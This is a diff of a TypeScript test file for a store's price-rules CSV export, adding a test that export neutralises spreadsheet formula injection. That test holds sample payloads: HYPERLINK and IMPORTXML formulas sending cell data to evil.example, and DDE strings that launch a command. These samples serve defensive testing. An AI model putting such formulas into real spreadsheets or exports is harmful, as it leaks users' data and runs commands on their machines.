@@ -64,6 +64,15 @@ describe('rules CSV import and export over SQLite', () => {
     expect(changed).toEqual([[ids.get('A1'), ids.get('B2')]]);
   });
 
+  it('refuses a price over 1 billion ₸ in a file, naming the limit', () => {
+    const { csv } = setup();
+    const result = csv.importCsv('SKU;Floor;Ceiling\nA1;10000;5 000 000 000\nB2;99999999999999999;\n', false);
+    expect(result.rows.map((r) => r.errors)).toEqual([
+      ['Максимальная цена: цена не может быть больше 1 000 000 000 ₸: «5 000 000 000»'],
+      ['Минимальная цена: цена не может быть больше 1 000 000 000 ₸: «99999999999999999»'],
+    ]);
+  });
+
   it('refuses to switch the bot on from a file for a product that gets no floor', () => {
     const { db, ids, csv } = setup();
     const result = csv.importCsv('SKU,Bot\nC3,yes\nB2,yes\n', true);
@@ -120,5 +129,28 @@ describe('rules CSV import and export over SQLite', () => {
       ['Этот товар уже есть в строке 3'],
     ]);
     expect(result.applied).toBe(1);
+  });
+});
+
+describe('rules CSV export with titles and store names a third party controls', () => {
+  // Titles and store names come from Kaspi: anyone selling there writes them.
+  const HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"Подробнее")', '+cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\'/C calc\'!A0', '\t=1+1', '\r=1+1', "'=already quoted"];
+
+  it('neutralises every cell a spreadsheet would run as a formula, and imports its own file back unchanged', () => {
+    const seeded = seedDatabase(tempDir(), [{
+      name: '=IMPORTXML(CONCAT("http://evil.example/?",A2),"//a")', uid: '30000009',
+      products: HOSTILE.map((title, i) => ({ sku: `-A${i}`, title, rules: { floor: { kind: 'fixed', price: 1000 + i } } })),
+    }]);
+    db = seeded.db;
+    const rules = createRulesService({ db: seeded.db, now: () => new Date(T0) });
+    const csv = createRulesCsv({ db: seeded.db, rules, now: () => new Date(T0) });
+    const text = csv.exportCsv(undefined, 'ru').csv;
+    // A cell opens after the BOM, a separator or a line break (quoted or not): none may open with = + - @ tab or CR.
+    expect(text.replace(BOM, '')).not.toMatch(/(^|;|\r\n)"?[=+\-@\t\r]/);
+    expect(text).toContain(`'-2+3+cmd`);
+
+    const back = csv.importCsv(text, true);
+    expect(back.fileErrors).toEqual([]);
+    expect(back.rows.map((r) => [r.sku, r.errors, r.changes]).sort()).toEqual(HOSTILE.map((_, i) => [`-A${i}`, [], []]));
   });
 });
